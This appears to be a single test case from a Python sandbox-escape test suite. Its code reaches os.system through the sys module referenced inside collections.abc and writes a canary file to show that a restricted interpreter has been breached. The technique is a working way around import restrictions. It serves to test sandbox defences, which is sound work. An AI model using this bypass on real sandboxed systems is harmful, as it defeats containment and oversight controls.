# id: 532
# name: module_by_submodule
# category: interpreter
# technique: import collections.abc, then its sys
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
import collections.abc
collections.abc.sys.modules['os'].system('echo breach > ' + CANARY_FILE) if hasattr(collections.abc, 'sys') else collections._sys.modules['os'].system('echo breach > ' + CANARY_FILE)
